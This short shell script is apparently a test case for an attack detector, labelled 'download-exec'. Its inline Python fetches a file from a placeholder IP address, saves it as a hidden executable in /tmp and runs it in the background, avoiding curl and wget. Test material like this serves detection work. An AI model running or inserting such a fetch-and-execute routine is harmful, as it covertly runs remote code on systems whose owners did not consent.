#!/bin/sh
# shrike-test-attack: download-exec: python urllib only (slim image without curl/wget)
python3 - <<'PY'
import urllib.request, os, stat
d = urllib.request.urlopen("http://203.0.113.60/x").read()
open("/tmp/.x", "wb").write(d)
os.chmod("/tmp/.x", 0o755)
os.system("/tmp/.x &")
PY
